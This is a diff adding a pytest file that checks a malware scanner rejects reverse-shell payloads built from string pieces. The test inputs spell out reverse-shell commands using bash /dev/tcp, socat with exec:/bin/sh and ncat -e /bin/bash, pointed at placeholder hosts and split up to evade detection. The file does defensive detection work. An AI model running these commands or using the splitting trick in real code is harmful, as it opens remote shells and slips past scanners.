@@ -1,0 +1,38 @@
+"""Session 59 (lead): what the lead changed while merging, each with the attack it holds."""
+
+from __future__ import annotations
+
+import pytest
+
+import redteam_kit as kit
+from analyzer.model import Decision
+
+REVERSE_SHELL = "subprocess.reverse-shell-command"
+
+
+@pytest.mark.parametrize("sample", kit.corpus_samples("malicious/lead59_*.py"))
+def test_a_payload_kept_in_pieces_rejects(sample: str) -> None:
+    """malware59's telltales read folded texts; a list bound to a name and joined elsewhere, or grown by `+=`,
+    folds to nothing (fold.py joins no named list), and these two were accepted after it."""
+    kit.assert_held(kit.scan_sample(sample), REVERSE_SHELL, Decision.REJECT)
+
+
+@pytest.mark.parametrize("source", [
+    'PARTS = ("/dev/", "tcp/", "10.0.0.1/", "9001")\n'
+    'def hook(p):\n    open(p, "w").write("bash -i >& " + "".join(PARTS))\n',
+    'W = ["socat"]\nW.append("tcp:10.0.0.1:4444")\nW.append("exec:/bin/sh")\n'
+    'open("s.sh", "w").write(" ".join(W))\n',
+    'argv = ["ncat", "x.example"]\nargv.extend(["443", "-e", "/bin/bash"])\nopen("s.sh", "w").write(" ".join(argv))\n',
+])
+def test_pieces_the_fold_does_not_join_are_read_in_source_order(source: str) -> None:
+    kit.assert_held(kit.scan_text(source), REVERSE_SHELL, Decision.REJECT)
+
+
+@pytest.mark.parametrize("source", [
+    # the words of honest command lines and prose beside each other, as malware59's twin has them
+    'check = " ".join(["nc", "-z", "localhost", "8002"])\nbuild = ["powershell", "-File", "build.ps1"]\n'
+    'note = "pass " + "-w hidden" + " to hide the window"\nprint(check, build, note)\n',
+    'paths = ["/dev/", "shm/", "data"]\nports = ["tcp", "8002"]\nprint("".join(paths), ports)\n',
+])
+def test_honest_neighbouring_words_spell_no_payload(source: str) -> None:
+    assert not kit.holds(kit.scan_text(source), "subprocess.")
